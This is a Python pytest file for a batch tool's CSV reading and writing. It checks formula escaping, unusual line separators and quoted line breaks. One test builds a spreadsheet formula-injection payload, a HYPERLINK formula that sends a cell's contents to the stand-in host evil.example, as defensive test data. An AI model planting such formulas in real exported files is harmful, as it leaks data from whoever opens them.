"""CSV files as spreadsheets make them and open them (issue 21): an output cell that a spreadsheet
would run as a formula is written as text; an input row stays whole whatever line separators its
cells hold (4 rows in were 5 out), and a quoted cell's line breaks separate its terms ("IoT\\nAI
pricing" was read as "IoTAI pricing")."""

import csv
import io

import pytest

from scripts.batch_io import FORMULA_STARTS, OUTPUT_FIELDS, OutputFile, read_rows
from service.benchmarks.catalogs import read_catalog_file

HEADER = "id,name,domain,tech_stack,scenarios\n"


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_a_cell_a_spreadsheet_would_run_is_written_as_text_and_read_back_as_it_was(tmp_path, start):
    output = OutputFile(tmp_path / "scored.csv")
    evil = f'{start}HYPERLINK("http://evil.example/?"&A1)'
    record = {"row_id": evil, "name": evil, "status": "scored", "differentiation": 61.5, "error": "-"}
    output.rewrite([record])
    cells = next(csv.DictReader(io.StringIO((tmp_path / "scored.csv").read_bytes().decode("utf-8-sig"), newline="")))
    assert cells["name"] == "'" + evil and cells["row_id"] == "'" + evil and cells["error"] == "'-"
    assert cells["differentiation"] == "61.5"
    assert not any(v.startswith(FORMULA_STARTS[:-1]) for v in cells.values())
    back = output.read()[0]
    assert back["name"] == evil and back["row_id"] == evil and back["error"] == "-"


def test_ordinary_cells_are_written_as_they_are(tmp_path):
    output = OutputFile(tmp_path / "scored.csv")
    output.rewrite([{"row_id": "row-1", "name": "充电安心 (NEV) 5% off", "status": "scored"}])
    text = (tmp_path / "scored.csv").read_text(encoding="utf-8-sig")
    assert "\nrow-1,,scored,,充电安心 (NEV) 5% off," in text and OUTPUT_FIELDS[:5] == (
        "row_id", "input_hash", "status", "http_status", "name")


@pytest.mark.parametrize("separator", ["\u2028", "\u2029", "\x85", "\x0c", "\x1e", "\x1c", "\x0b"])
def test_a_row_stays_whole_whatever_line_separator_a_cell_holds(tmp_path, separator):
    path = tmp_path / "in.csv"
    path.write_text(HEADER + "".join(f"r{i},Name {i},payments,IoT{separator}AI pricing,mobile payments\n"
                                     for i in range(4)), encoding="utf-8")
    rows = read_rows(path)
    assert [r.row_id for r in rows] == ["r0", "r1", "r2", "r3"]
    assert all(r.profile["tech_stack"] == ["IoT", "AI pricing"] for r in rows)


@pytest.mark.parametrize("line_break", ["\n", "\r\n", "\r"])
def test_line_breaks_in_a_quoted_cell_separate_its_terms(tmp_path, line_break):
    path = tmp_path / "in.csv"
    path.write_bytes((HEADER + f'r1,Cover,insurtech,"IoT{line_break}AI pricing",NEV charging\n').encode())
    [row] = read_rows(path)
    assert row.profile["tech_stack"] == ["IoT", "AI pricing"] and row.profile["scenarios"] == ["NEV charging"]


def test_a_catalog_csv_keeps_its_rows_and_quoted_line_breaks(tmp_path):
    path = tmp_path / "catalog.csv"
    path.write_text(HEADER + 'a,Rival\u2028one,payments,"IoT\nAI pricing",x\nb,Rival two,lending,AI,y\n',
                    encoding="utf-8")
    products = read_catalog_file(path, 2**20)
    assert [p["id"] for p in products] == ["a", "b"] and products[0]["tech_stack"] == ["IoT", "AI pricing"]


def test_a_number_read_back_to_resume_is_written_as_a_number(tmp_path):
    """Resuming rewrites the rows already scored from their text: '-1.5' is a number, not a formula."""
    output = OutputFile(tmp_path / "scored.csv")
    output.rewrite([{"row_id": "row-1", "name": "x", "status": "scored", "differentiation": "-0.0",
                     "compliance_risk": "-1.5", "error": "-1+1"}])
    cells = next(csv.DictReader(io.StringIO((tmp_path / "scored.csv").read_bytes().decode("utf-8-sig"), newline="")))
    assert cells["differentiation"] == "-0.0" and cells["compliance_risk"] == "-1.5" and cells["error"] == "'-1+1"
